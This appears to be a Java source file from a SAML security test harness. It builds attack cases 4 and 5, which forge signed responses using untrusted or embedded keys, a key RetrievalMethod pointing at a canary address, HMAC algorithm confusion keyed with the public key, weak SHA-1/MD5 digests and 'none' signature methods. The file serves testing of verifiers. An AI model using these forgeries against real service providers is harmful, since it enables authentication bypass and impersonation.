package io.vestibule.protocol.saml.attack;

import static io.vestibule.protocol.saml.attack.AttackCase.attack;

import io.vestibule.protocol.saml.toy.Draft;
import io.vestibule.protocol.saml.toy.SamlNames;
import io.vestibule.protocol.saml.toy.Seal;
import io.vestibule.protocol.saml.toy.Seal.Shape;
import io.vestibule.protocol.saml.toy.ToyKey;
import java.nio.charset.StandardCharsets;
import java.security.interfaces.RSAPublicKey;
import java.util.Base64;
import java.util.List;
import java.util.function.Function;
import javax.crypto.spec.SecretKeySpec;

/** Cases 4 and 5: keys that come with the message, and algorithms nobody should take. */
final class Keys {
    private static final String MORE = "http://www.w3.org/2001/04/xmldsig-more#";

    private Keys() {}

    static List<AttackCase> cases() {
        return List.of(
                stranger("4-self-signed", "signed by a stranger, whose certificate has the right subject", key -> {
                    return Seal.certificate(key);
                }),
                stranger("4-key-value", "signed by a stranger, whose key is in KeyValue", Keys::keyValue),
                stranger("4-no-key-info", "signed by a stranger, without KeyInfo", key -> ""),
                attack("4-genuine-certificate", "signed by a stranger, with the genuine certificate", target -> {
                    Shape shape = Shape.of(target.stranger()).keyInfo(Seal.certificate(target.key()));
                    return evil(target, shape);
                }),
                attack("4-two-certificates", "signed by a stranger, with the genuine certificate first", target -> {
                    ToyKey stranger = target.stranger();
                    return evil(
                            target,
                            Shape.of(stranger).keyInfo(Seal.certificate(target.key()) + Seal.certificate(stranger)));
                }),
                attack("4-retrieval-method", "the key is to be fetched from an address", target -> {
                    return evil(
                            target,
                            Shape.of(target.stranger())
                                    .keyInfo("<ds:RetrievalMethod URI=\"" + target.canary() + "/key\" Type=\""
                                            + SamlNames.DSIG + "rawX509Certificate\"></ds:RetrievalMethod>"));
                }),
                attack("4-assertion-by-stranger", "the assertion by a stranger, the response unsigned", target -> {
                    Draft evil = target.evil();
                    return Message.post(evil.response(Seal.sign(evil.assertion(), target.stranger())), target);
                }),
                attack(
                        "4-assertion-by-stranger-in-genuine",
                        "the response genuine, the assertion by a stranger",
                        target -> {
                            Draft draft = target.draft();
                            String assertion = Seal.sign(draft.assertion(), target.stranger());
                            return Message.post(Seal.sign(draft.response(assertion), target.key()), target);
                        }),
                hmac(
                        "5-hmac-key",
                        "the key's DER",
                        target -> target.key().publicKey().getEncoded()),
                hmac(
                        "5-hmac-certificate",
                        "the certificate's text",
                        target -> target.key().certificateText().getBytes(StandardCharsets.UTF_8)),
                hmac("5-hmac-pem", "the key as PEM", target -> pem(target).getBytes(StandardCharsets.UTF_8)),
                hmac("5-hmac-empty", "a byte of nothing", target -> new byte[1]),
                attack("5-sha1-signature", "RSA or ECDSA with SHA-1 by the genuine key", target -> {
                    boolean ec = target.key().isEc();
                    return genuine(
                            target, target.shape().method(ec ? MORE + "ecdsa-sha1" : SamlNames.DSIG + "rsa-sha1"));
                }),
                attack("5-sha1-digest", "a SHA-1 digest under a SHA-256 signature", target -> {
                    return genuine(target, target.shape().digest(SamlNames.DSIG + "sha1"));
                }),
                attack("5-md5-digest", "an MD5 digest under a SHA-256 signature", target -> {
                    return genuine(target, target.shape().digest(MORE + "md5"));
                }),
                attack("5-method-none", "the signature method is called none", target -> {
                    return genuine(target, target.shape().method("none"));
                }),
                attack("5-method-empty", "the signature method has no name", target -> {
                    return genuine(target, target.shape().method(""));
                }),
                attack("5-method-digest", "the signature method is a digest", target -> {
                    return genuine(target, target.shape().method(SamlNames.SHA256));
                }),
                attack("5-method-of-other-key", "the signature method is one for another kind of key", target -> {
                    boolean ec = target.key().isEc();
                    return genuine(target, target.shape().method(ec ? SamlNames.RSA_SHA256 : SamlNames.ECDSA_SHA256));
                }));
    }

    private static AttackCase stranger(String id, String what, Function<ToyKey, String> keyInfo) {
        return attack(id, what, target -> {
            ToyKey stranger = target.stranger();
            return evil(target, Shape.of(stranger).keyInfo(keyInfo.apply(stranger)));
        });
    }

    /** RFC 7515's old confusion in XML: the verifier hands its public key to whatever algorithm the message names. */
    private static AttackCase hmac(String id, String secret, Function<Target, byte[]> bytes) {
        return attack(id, "HMAC with " + secret, target -> {
            return evil(
                    target,
                    target.shape()
                            .method(MORE + "hmac-sha256")
                            .key(new SecretKeySpec(bytes.apply(target), "HmacSHA256")));
        });
    }

    private static Message genuine(Target target, Shape shape) {
        Draft draft = target.draft();
        return Message.post(Seal.sign(draft.response(draft.assertion()), shape), target);
    }

    private static Message evil(Target target, Shape shape) {
        Draft evil = target.evil();
        return Message.post(Seal.sign(evil.response(Seal.sign(evil.assertion(), shape)), shape), target);
    }

    private static String keyValue(ToyKey key) {
        Base64.Encoder base64 = Base64.getEncoder();
        if (key.publicKey() instanceof RSAPublicKey rsa) {
            return "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>"
                    + base64.encodeToString(rsa.getModulus().toByteArray()) + "</ds:Modulus><ds:Exponent>"
                    + base64.encodeToString(rsa.getPublicExponent().toByteArray())
                    + "</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>";
        }
        return "<dsig11:DEREncodedKeyValue xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\">"
                + base64.encodeToString(key.publicKey().getEncoded()) + "</dsig11:DEREncodedKeyValue>";
    }

    private static String pem(Target target) {
        return "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'})
                        .encodeToString(target.key().publicKey().getEncoded())
                + "\n-----END PUBLIC KEY-----\n";
    }
}
